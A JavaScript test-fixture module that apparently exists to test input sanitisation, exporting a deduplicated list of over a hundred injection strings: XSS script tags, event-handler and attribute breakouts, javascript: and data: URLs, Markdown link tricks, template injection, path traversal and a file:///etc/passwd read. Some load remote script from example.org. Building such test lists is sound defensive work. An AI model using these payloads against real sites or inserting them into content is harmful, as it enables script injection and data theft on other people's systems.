// What hostile records, addresses and storage try: each text is put into every place that a
// reader, a curator or another site can fill. Facts of the trade, written for this project;
// `PWNED` in a text is what runs if it runs.

const PWNED = "window.pwned=1";

const elements = [
  `<script>${PWNED}</script>`, `<script src=data:,${PWNED}></script>`, `<script src=//example.org/x.js></script>`,
  `<SCRIPT>${PWNED}</SCRIPT>`, `<script\n>${PWNED}</script\n>`, `<script/x>${PWNED}</script>`, `<<script>${PWNED}//<</script>`,
  `<scr<script>ipt>${PWNED}</scr</script>ipt>`, `<script type=module>${PWNED}</script>`, `<svg><script>${PWNED}</script></svg>`,
  `<math><mtext></mtext><script>${PWNED}</script></math>`, `<svg><script href=data:,${PWNED} /></svg>`,
  `<iframe src="javascript:${PWNED}"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="javascript:${PWNED}"></object>`, `<embed src="javascript:${PWNED}">`, `<base href="https://example.org/">`,
  `<meta http-equiv=refresh content="0;url=https://example.org/">`, `<meta http-equiv=refresh content="0;url=javascript:${PWNED}">`,
  `<link rel=stylesheet href=https://example.org/x.css>`, `<style>@import "https://example.org/x.css";</style>`,
  `<style>*{display:none}</style>`, `<form action=https://example.org/><input type=submit></form>`, `<template><script>${PWNED}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWNED}>">`, `<!--><script>${PWNED}</script>-->`, `<!-- --!><img src=x onerror=${PWNED}>`,
  `<![CDATA[<script>${PWNED}</script>]]>`, `<?xml version="1.0"?><script>${PWNED}</script>`, `<plaintext>`, `<xmp><script>${PWNED}</script></xmp>`,
  `<frameset onload=${PWNED}>`, `<portal src=https://example.org/></portal>`, `<fencedframe></fencedframe>`, `<dialog open onclose=${PWNED}>x</dialog>`,
];

const handlers = [
  `<img src=x onerror=${PWNED}>`, `<img src=x onerror="${PWNED}">`, `<IMG SRC=x ONERROR=${PWNED}>`, `<img/src=x/onerror=${PWNED}>`,
  `<img src=x onerror\n=\n${PWNED}>`, `<img src=x onerror=&#119;indow.pwned=1>`, `<svg onload=${PWNED}>`, `<svg/onload=${PWNED}>`,
  `<svg><animate onbegin=${PWNED} attributeName=x dur=1s>`, `<svg><set onbegin=${PWNED} attributename=x>`, `<svg><image href=x onerror=${PWNED}>`,
  `<body onload=${PWNED}>`, `<body onpageshow=${PWNED}>`, `<input onfocus=${PWNED} autofocus>`, `<select onfocus=${PWNED} autofocus>`,
  `<textarea onfocus=${PWNED} autofocus>`, `<button onfocus=${PWNED} autofocus>x</button>`, `<details open ontoggle=${PWNED}>`,
  `<video><source onerror=${PWNED}></video>`, `<audio src onerror=${PWNED}>`, `<video poster=x onerror=${PWNED}>`, `<marquee onstart=${PWNED}>`,
  `<a href=# onclick=${PWNED}>x</a>`, `<div onpointerenter=${PWNED} popover>x</div>`, `<div onscrollend=${PWNED}>x</div>`,
  `<x onanimationstart=${PWNED}>x</x>`, `<x contenteditable onblur=${PWNED} autofocus tabindex=0>x</x>`, `<style onload=${PWNED}></style>`,
  `<link rel=stylesheet href=data:, onload=${PWNED}>`, `<track onerror=${PWNED}>`, `<embed onload=${PWNED}>`, `<object onerror=${PWNED}>`,
];

const breakouts = [
  `"><script>${PWNED}</script>`, `'><script>${PWNED}</script>`, `"><img src=x onerror=${PWNED}>`, `' onmouseover=${PWNED} x='`,
  `" onfocus=${PWNED} autofocus x="`, "` onerror=window.pwned=1 x=`", `" style="background:url(https://example.org/x)`, `"/onload=${PWNED}/x="`,
  `</title><script>${PWNED}</script>`, `</textarea><script>${PWNED}</script>`, `</style><script>${PWNED}</script>`, `</script><script>${PWNED}</script>`,
  `</noscript><script>${PWNED}</script>`, `--><script>${PWNED}</script>`, `]]><script>${PWNED}</script>`, `</main></div><script>${PWNED}</script>`,
  `</svg><script>${PWNED}</script>`, `</code></pre><script>${PWNED}</script>`, `\\"><script>${PWNED}</script>`, `\\u003cscript\\u003e${PWNED}\\u003c/script\\u003e`,
  `&lt;script&gt;${PWNED}&lt;/script&gt;`, `&#60;script&#62;${PWNED}&#60;/script&#62;`, `%3Cscript%3E${PWNED}%3C/script%3E`, `%253Cscript%253E`,
  `\uff1cscript\uff1e${PWNED}\uff1c/script\uff1e`, `+ADw-script+AD4-${PWNED}+ADw-/script+AD4-`, `<script>${PWNED}`, `<`, `<a`, `<!--`, `&`, `&#`,
];

const schemes = [
  `javascript:${PWNED}`, `JaVaScRiPt:${PWNED}`, `javascript&colon;${PWNED}`, `javascript&#58;${PWNED}`, `java\u200bscript:${PWNED}`,
  `vbscript:${PWNED}`, `data:text/html,<script>${PWNED}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${PWNED}>`, `blob:https://example.org/x`, `file:///etc/passwd`, `//example.org/x`, `\\\\example.org\\x`, `https:example.org`,
  `view-source:javascript:${PWNED}`, `[x](javascript:${PWNED})`, `[x](JAVASCRIPT:${PWNED})`, `[x](data:text/html,<script>${PWNED}</script>)`,
  `![x](javascript:${PWNED})`, `![x](https://example.org/x.png)`, `![x](x"onerror="${PWNED})`, `[x](https://a.b/"onclick="${PWNED})`, `<javascript:${PWNED}>`,
  `[x]: javascript:${PWNED}`, `[x](<javascript:${PWNED}>)`, `[x](https://a.b 'title" onclick=${PWNED} x="')`, `\`\`\`<script>${PWNED}</script>\`\`\``, `<https://a.b/"><script>${PWNED}</script>>`,
];

const others = [
  "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "#{window.pwned=1}", "<%= window.pwned=1 %>", "__proto__", "constructor",
  "[object Object]", "';window.pwned=1//", "\";window.pwned=1//", "\\';window.pwned=1//", "\u2028window.pwned=1\u2029", "\u202ewindow.pwned=1\u202c", "\ufeff<script>window.pwned=1</script>",
  "a\u0300".repeat(70), "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".repeat(18), "%", "%zz", "%00", "..%2f..%2f", "../../../../", "'\"<>&`=/\\", "null", "undefined", "NaN", "-1", "9".repeat(150),
];

/** More than a hundred texts, each once. */
export const INJECTIONS = [...new Set([...elements, ...handlers, ...breakouts, ...schemes, ...others])];
